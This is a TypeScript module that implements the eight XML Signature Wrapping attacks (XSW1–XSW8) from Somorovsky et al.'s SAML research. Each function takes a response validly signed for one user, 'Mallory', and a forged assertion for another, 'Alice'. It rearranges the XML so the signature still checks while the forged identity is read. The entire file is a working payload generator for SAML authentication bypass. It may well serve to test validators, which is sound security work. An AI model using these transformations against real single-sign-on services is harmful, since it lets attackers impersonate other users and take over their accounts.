/**
 * The eight ways of Somorovsky et al., "On Breaking SAML" (2012), to move what was signed and put something else where it is looked for.
 * Each takes an answer that was signed for Mallory and a forged assertion that names Alice.
 */
export const wraps: [string, (signedOne: string, forged: string) => string][] = (() => {
  const part = (xml: string, name: string): string => new RegExp(`<(\\w+:)?${name}[ >].*</(\\w+:)?${name}>`, 's').exec(xml)?.[0] ?? '';
  const without = (xml: string): string => xml.replace(part(xml, 'Signature'), '');
  const evilId = (xml: string): string => xml.replace(/ ID="[^"]+"/, ' ID="_evil"');
  const extended = (inside: string): string => `<samlp:Extensions>${inside}</samlp:Extensions>`;
  const status = '<samlp:Status>';
  return [
    [
      'XSW1: the signed answer inside the signature of a forged one',
      (all, forged) => {
        const evil = evilId(without(all)).replace(part(without(all), 'Assertion'), forged);
        return evil.replace(
          status,
          part(all, 'Signature').replace(
            /(<\/(\w+:)?Signature>)$/,
            `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${without(all)}</ds:Object>$1`,
          ) + status,
        );
      },
    ],
    [
      'XSW2: the signed answer beside the signature of a forged one',
      (all, forged) => {
        const evil = evilId(without(all)).replace(part(without(all), 'Assertion'), forged);
        return evil.replace(status, part(all, 'Signature') + extended(without(all)) + status);
      },
    ],
    [
      'XSW3: a forged assertion before the signed one',
      (all, forged) => all.replace(part(all, 'Assertion'), (signedOne) => forged + signedOne),
    ],
    [
      'XSW4: the signed assertion inside a forged one',
      (all, forged) =>
        all.replace(part(all, 'Assertion'), (signedOne) => forged.replace('</saml:Assertion>', `${signedOne}</saml:Assertion>`)),
    ],
    [
      'XSW5: the signature in a forged assertion, the signed one behind it',
      (all, forged) =>
        all.replace(
          part(all, 'Assertion'),
          (signedOne) => forged.replace('<saml:Subject>', `${part(all, 'Signature')}<saml:Subject>`) + without(signedOne),
        ),
    ],
    [
      'XSW6: the signature in a forged assertion, the signed one inside the signature',
      (all, forged) =>
        all.replace(part(all, 'Assertion'), (signedOne) =>
          forged.replace(
            '<saml:Subject>',
            `${part(all, 'Signature').replace(/(<\/(\w+:)?Signature>)$/, `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${without(signedOne)}</ds:Object>$1`)}<saml:Subject>`,
          ),
        ),
    ],
    ['XSW7: a forged assertion in the extensions', (all, forged) => all.replace(status, extended(forged) + status)],
    [
      'XSW8: the forged assertion around, the signed one in an object of its signature',
      (all, forged) =>
        all.replace(part(all, 'Assertion'), (signedOne) =>
          forged.replace(
            '<saml:Subject>',
            `${part(all, 'Signature').replace(/(<\/(\w+:)?Signature>)$/, `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${signedOne}</ds:Object>$1`)}<saml:Subject>`,
          ),
        ),
    ],
  ];
})();
